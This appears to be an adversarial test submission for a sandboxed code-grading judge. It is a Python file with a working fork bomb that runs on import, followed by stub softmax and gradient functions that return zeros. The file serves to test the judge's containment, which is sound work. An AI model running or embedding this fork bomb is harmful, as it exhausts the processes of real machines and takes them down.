"""Adversarial: the classic fork bomb at import, failures ignored.

Docker: the pids limit caps the processes; they spin until the judge's wall
clock kills the container (time_limit_exceeded), and the container goes
with every process in it.
"""
import os

import numpy as np

while True:
    try:
        os.fork()
    except OSError:
        pass


def softmax(scores):
    return np.zeros_like(np.asarray(scores, dtype=np.float64))


def loss_and_grads(params, X, y, reg=0.0):
    return 0.0, {k: np.zeros_like(np.asarray(v, dtype=np.float64)) for k, v in params.items()}
